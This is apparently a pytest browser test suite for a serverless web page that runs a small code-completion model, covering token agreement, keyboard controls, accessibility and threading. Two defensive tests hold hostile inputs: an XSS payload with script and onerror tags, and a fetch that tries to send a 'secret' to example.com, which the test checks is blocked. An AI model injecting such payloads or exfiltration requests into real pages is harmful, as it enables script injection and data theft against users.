"""The page without a server, in Chromium: the answers of our own decoding, its errors, keys, width, colours, axe."""

from __future__ import annotations

import functools
import http.server
import json
import random
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from transformers import AutoModelForCausalLM, AutoTokenizer
from web_model import READY, chromium, plain_server, prompts_of, source_text, trained_release, until
from web_page import engine_archive, web_page

from benchmarks.playground_load import random_model
from codenas_hf.compression.formats import FORMATS
from codenas_hf.compression.quantize import store_in
from codenas_hf.generation.decode import GREEDY, DecodeSettings, _prepare, complete_many
from codenas_hf.generation.llama_cpp import LlamaCppRuntime, is_installed
from codenas_hf.generation.torch_runtime import TorchRuntime
from codenas_hf.measure import metrics

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

SIZES = {"desktop": (1280, 900), "phone": (390, 844)}
AXE = {
    "package": "axe-core",
    "version": "4.14.1",
    "integrity": "sha512-FHfa+lmNjQZfJz1q8wKqIDwC6DExcHt/pkjNQb09a3NPjCKg2rhu5qb2S4r76ASyFNNtuFooJpZe37OgudVGtQ==",
}
NEAR_TIE = 0.2  # of the two best logits: WebAssembly adds up and rounds in another order than this processor
DONE = f"{READY} && document.getElementById('chips').innerText.match(/\\d tokens?, /)"
# Completes prompts one after the other with the page's own engine; token ids, text and why it ended.
COMPLETE_ALL = """async ([wishes]) => {
  const all = [];
  for (const wish of wishes) {
    let last;
    for await (last of codenas.engine.complete(wish)) ;
    const { ids, ended } = last.growth;
    all.push({ ids, ended, text: last.growth.text() });
  }
  return all;
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium(npm=True) as started:
        yield started


@pytest.fixture(scope="module")
def release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return trained_release(tmp_path_factory.mktemp("web") / "small")


@pytest.fixture(scope="module")
def folder(browser: Any, release: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return web_page(tmp_path_factory.mktemp("page") / "site", model=str(release))


@pytest.fixture(scope="module")
def address(folder: Path) -> Iterator[str]:
    with plain_server(folder) as found:
        yield found


@pytest.fixture
def open_page(browser: Any, address: str) -> Iterator[Any]:
    """Opens the page and waits until it is ready; no page may have complained or asked anybody else for anything."""
    opened, complaints = [], []

    def open_(size: str = "desktop", scheme: str = "light", where: str = address, query: str = "", **more: Any) -> Any:
        width, height = SIZES[size]
        context = browser.new_context(viewport={"width": width, "height": height}, color_scheme=scheme, **more)
        opened.append(context)
        page = context.new_page()
        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        own = (where, "blob:", "data:")
        page.on("request", lambda asked: None if asked.url.startswith(own) else complaints.append(asked.url))
        page.goto(where + query)
        until(page, READY)
        return page

    yield open_
    for context in opened:
        context.close()
    assert complaints == []


def set_values(page: Any, **values: str) -> None:
    """Fills controls that may stand in a closed part of the page."""
    page.evaluate(
        "values => { for (const [id, value] of Object.entries(values)) document.getElementById(id).value = value }",
        values,
    )


def finish(page: Any) -> str:
    """Waits until the completion has ended; the code with it."""
    until(page, DONE)
    return str(page.locator("#code").inner_text())


def test_it_loads_from_a_plain_server_and_completes(open_page: Any, folder: Path) -> None:
    page = open_page()
    assert page.title() == "small in your browser"
    page.fill("#prompt", "def total(numbers):\n")
    page.click("#complete")
    code = finish(page)
    assert code.startswith("def total(numbers):")
    assert page.locator("#code mark").inner_text().strip()
    chips = page.locator("#chips").inner_text()
    assert "tokens/s" in chips
    assert "first token" in chips
    facts = page.locator("#facts").inner_text()
    weights = json.loads((folder / "model.json").read_text())["bytes"]
    assert f"model-q8_0.gguf, {weights:,} bytes" in facts
    assert "one thread of this device" in facts
    assert "llama, 2 layers, 64 wide" in facts
    assert page.evaluate("crossOriginIsolated") is False
    wire = float(page.evaluate("document.getElementById('facts').innerText.match(/([\\d.]+) MB: model, engine/)[1]"))
    files = sum(
        p.stat().st_size for p in folder.rglob("*") if p.name not in ("README.md", "threads.wasm", "LICENCE.txt")
    )
    assert wire == pytest.approx(files / 1e6, abs=0.01)
    assert weights < files


def asked(prompt: str, *, length: int = 24, penalty: float = 1.0, suffix: str | None = None) -> dict[str, Any]:
    """What the page asks its engine."""
    known = {"temperature": 0, "topP": 1, "seed": 0, "stops": []}
    return {"prompt": prompt, "suffix": suffix, "length": length, "penalty": penalty, **known}


@pytest.mark.skipif(not is_installed(), reason="xllamacpp is not installed")
@pytest.mark.parametrize(("penalty", "count"), [(1.0, 100), (1.2, 30)])
def test_tokens_equal_our_own_decoding(
    open_page: Any, folder: Path, release: Path, penalty: float, count: int
) -> None:
    tokenizer = AutoTokenizer.from_pretrained(release)
    runtime = LlamaCppRuntime(folder / "model-q8_0.gguf")
    prompts = prompts_of(source_text(), count)
    settings = DecodeSettings(max_new_tokens=24, repetition_penalty=penalty)
    ours = [found[0] for found in complete_many(runtime, tokenizer, prompts, settings=settings)]
    theirs = open_page().evaluate(COMPLETE_ALL, [[asked(prompt, penalty=penalty) for prompt in prompts]])
    ids = [list(found["ids"]) for found in theirs]
    near = near_ties(runtime, tokenizer, prompts, [list(found.token_ids) for found in ours], ids)
    assert len(near) <= count // 4, near
    assert all(
        mine.text == other["text"]
        for mine, other in zip(ours, theirs, strict=True)
        if list(mine.token_ids) == other["ids"]
    )


@pytest.mark.skipif(not is_installed(), reason="xllamacpp is not installed")
def test_tokens_equal_those_of_torch(folder: Path, release: Path) -> None:
    """llama.cpp, whose tokens the page's are, against our own model with the weights that the file holds."""
    tokenizer = AutoTokenizer.from_pretrained(release)
    runtime = LlamaCppRuntime(folder / "model-q8_0.gguf")
    model = AutoModelForCausalLM.from_pretrained(release, dtype=torch.float32).eval()
    store_in(model, FORMATS["q8_0"])
    prompts = prompts_of(source_text(), 100)
    settings = DecodeSettings(max_new_tokens=24)
    found = [
        [list(c[0].token_ids) for c in complete_many(one, tokenizer, prompts, settings=settings)]
        for one in (runtime, TorchRuntime(model))
    ]
    # llama.cpp rounds activations too; how many near ties a model has depends on the processor that trained it.
    near = near_ties(runtime, tokenizer, prompts, *found)
    assert len(near) <= len(prompts) // 2, near


def near_ties(
    runtime: LlamaCppRuntime, tokenizer: Any, prompts: list[str], ours: list[list[int]], theirs: list[list[int]]
) -> list[str]:
    """Where tokens differ: each time the two logits must be near each other; what is returned is printed, too."""
    near = []
    for number, (prompt, mine, other) in enumerate(zip(prompts, ours, theirs, strict=True)):
        if mine == other:
            continue
        at = next(i for i, (a, b) in enumerate(zip(mine, other, strict=False)) if a != b)
        margin = gap_at(runtime, tokenizer, prompt, mine[:at], (mine[at], other[at]))
        assert margin < NEAR_TIE, f"prompt {number}, token {at}: logits apart by {margin:.3g}"
        near.append(f"prompt {number}, token {at}: logits {margin:.2g} apart")
    print(f"{len(prompts) - len(near)} of {len(prompts)} equal; near ties: {near or 'none'}")
    return near


def gap_at(runtime: LlamaCppRuntime, tokenizer: Any, prompt: str, before: list[int], pair: tuple[int, int]) -> float:
    """How far the logits of two tokens are apart after what was generated before them."""
    row = _prepare(runtime.context_tokens, tokenizer, prompt, suffix=None, sample=0, settings=GREEDY)
    logits = np.array(runtime.logits([*row.token_ids, *before]))
    return float(abs(logits[pair[0]] - logits[pair[1]]))


@pytest.mark.skipif(not is_installed(), reason="xllamacpp is not installed")
def test_gaps_are_filled_as_we_do(open_page: Any, folder: Path, release: Path) -> None:
    tokenizer = AutoTokenizer.from_pretrained(release)
    runtime = LlamaCppRuntime(folder / "model-q8_0.gguf")
    pairs = [("def f(x):\n    return ", "\n\n\nprint(f(2))\n"), ("", "import os\n"), ("x = [", "]")]
    settings = DecodeSettings(max_new_tokens=16)
    before, after = zip(*pairs, strict=True)
    ours = [c[0].text for c in complete_many(runtime, tokenizer, before, settings=settings, suffixes=after)]
    wishes = [asked(prompt, suffix=suffix, length=16) for prompt, suffix in pairs]
    assert [found["text"] for found in open_page().evaluate(COMPLETE_ALL, [wishes])] == ours


def test_random_bytes_do_not_break_the_page(open_page: Any, tmp_path: Path) -> None:
    """Random weights write bytes that are no UTF-8; an engine that sends text as JSON dies of them."""
    with plain_server(web_page(tmp_path / "site", model=str(random_model(tmp_path / "random")))) as where:
        page = open_page(where=where)
        wishes = [
            asked(prompt, length=100) | {"temperature": 2.0, "seed": seed} for seed, prompt in enumerate("abcdef")
        ]
        found = page.evaluate(COMPLETE_ALL, [wishes])
    assert any("\ufffd" in one["text"] for one in found)
    assert all(len(one["ids"]) >= 100 or one["ended"] == "end" for one in found)
    assert len({one["text"] for one in found}) == len(found)


def test_warnings_are_those_of_the_package(open_page: Any) -> None:
    page = open_page()
    texts = [
        "x = 1\n" * 30,
        "a b c d e f g h " * 6,
        "def f(x):\n    return x\n",
        "# only words\n",
        "y = [1, 2, 3]\nz = y[0]\n",
    ]
    rng = random.Random(1)
    texts += ["".join(rng.choice("ab\n ") for _ in range(80)) for _ in range(30)]
    prompt = "def f(x):\n    return x\n" * 2
    for text in texts:
        tokens = page.evaluate("async text => codenas.engine.tokens(text)", text.rstrip())
        given = page.evaluate("async text => codenas.engine.tokens(text)", prompt)
        mine = metrics.collapse(tokens, text, prompt_tokens=given)
        call = "async given => (await import('./judge.js')).collapse(given)"
        said = page.evaluate(call, {"ids": tokens, "text": text, "prompt": given, "ended": "length", "fills": False})
        expected = next(
            (
                word
                for word, is_so in (
                    ("loop", mine.loop),
                    ("repeats", mine.repeat),
                    ("copies", mine.copy),
                    ("no code", mine.empty),
                )
                if is_so
            ),
            "",
        )
        assert expected in said, text
        assert bool(said) == mine.collapsed, text


def test_stop_keys_and_gap(open_page: Any) -> None:
    page = open_page()
    page.focus("#prompt")
    page.keyboard.press("Control+A")
    page.keyboard.insert_text("x = \nprint(x)")
    page.evaluate("document.getElementById('prompt').setSelectionRange(4, 4)")
    page.focus("#gap")
    page.keyboard.press("Enter")
    assert page.input_value("#prompt") == "x = <FILL_HERE>\nprint(x)"
    page.keyboard.press("Control+Enter")
    code = finish(page)
    assert code.startswith("x = ")
    assert code.rstrip().endswith("print(x)")
    assert "FILL_HERE" not in code
    page.fill("#prompt", "class A:\n")
    set_values(page, length="400")
    page.evaluate("document.getElementById('one-block').checked = false")
    page.focus("#prompt")
    page.keyboard.press("Control+Enter")
    until(page, "document.querySelector('#code mark')?.innerText.length > 10")
    page.keyboard.press("Escape")
    finish(page)
    assert "stopped by you" in page.locator("#chips").inner_text()
    assert "stopped by you" in page.locator("#said").inner_text()


def test_every_control_is_reached_by_keyboard(open_page: Any) -> None:
    page = open_page()
    page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
    name = "(e => e.id || e.textContent.trim() || e.value)"
    controls = "[...document.querySelectorAll('button, input, textarea, summary, a, pre')].filter(e => !e.disabled)"
    wanted = page.evaluate(f"{controls}.map{name}")
    reached = set()
    for _ in range(2 * len(wanted)):
        page.keyboard.press("Tab")
        reached.add(page.evaluate(f"{name}(document.activeElement)"))
    assert set(wanted) <= reached


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"prompt": "  "}, "The prompt is empty"),
        ({"prompt": "<FILL_HERE><FILL_HERE>"}, "may stand once"),
        ({"temperature": "9", "prompt": "x"}, "must be between 0 and 2"),
    ],
)
def test_what_is_wrong_is_said(open_page: Any, values: dict[str, str], message: str) -> None:
    page = open_page()
    set_values(page, **values)
    page.click("#complete")
    assert message in page.locator("#problem").inner_text()
    assert page.get_by_role("alert").is_visible()


def test_isolated_pages_may_use_threads(open_page: Any, folder: Path) -> None:
    class Isolating(http.server.SimpleHTTPRequestHandler):
        def end_headers(self) -> None:
            self.send_header("Cross-Origin-Opener-Policy", "same-origin")
            self.send_header("Cross-Origin-Embedder-Policy", "require-corp")
            super().end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    handler = functools.partial(Isolating, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        where = f"http://127.0.0.1:{server.server_port}"
        alone = open_page(where=where)
        several = open_page(where=where, query="?threads=2")
        for page, threads in ((alone, "one thread"), (several, "2 threads")):
            assert page.evaluate("crossOriginIsolated")
            assert f"{threads} of this device" in page.locator("#facts").inner_text()
        wishes = [asked("def f(x):\n    return", length=12)]
        assert alone.evaluate(COMPLETE_ALL, [wishes]) == several.evaluate(COMPLETE_ALL, [wishes])
        server.shutdown()


def test_hostile_code_is_only_text(open_page: Any) -> None:
    page = open_page()
    hostile = "s = '</code></pre><img src=x onerror=alert(1)><script>alert(2)</script><|endoftext|>'"
    page.fill("#prompt", hostile)
    page.click("#complete")
    assert finish(page).startswith(hostile)
    assert page.locator("#output img, #output script").count() == 0


def test_nothing_can_leave_the_page(browser: Any, address: str) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(address)
        sent = (
            "async () => { try { await fetch('https://example.com/?secret'); return 'sent' } catch { return 'held' } }"
        )
        assert page.evaluate(sent) == "held"
        assert context.cookies() == []


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious_and_the_page_fits(open_page: Any, size: str, scheme: str) -> None:
    page = open_page(size, scheme, bypass_csp=True)
    page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
    page.click("#complete")
    finish(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= SIZES[size][0]
    page.add_script_tag(content=axe_source())
    found = page.evaluate(
        "async () => (await axe.run()).violations.map(v => [v.impact, v.id, v.nodes.map(n => n.html)])"
    )
    assert [violation for violation in found if violation[0] in ("serious", "critical")] == []
    channels = page.evaluate("getComputedStyle(document.body).backgroundColor.match(/\\d+/g).map(Number)")
    assert (sum(channels[:3]) > 380) == (scheme == "light")


def axe_source() -> str:
    """axe-core's script, from its npm package."""
    with tarfile.open(engine_archive(AXE)) as package:
        stream = package.extractfile("package/axe.min.js")
        assert stream is not None
        return stream.read().decode()
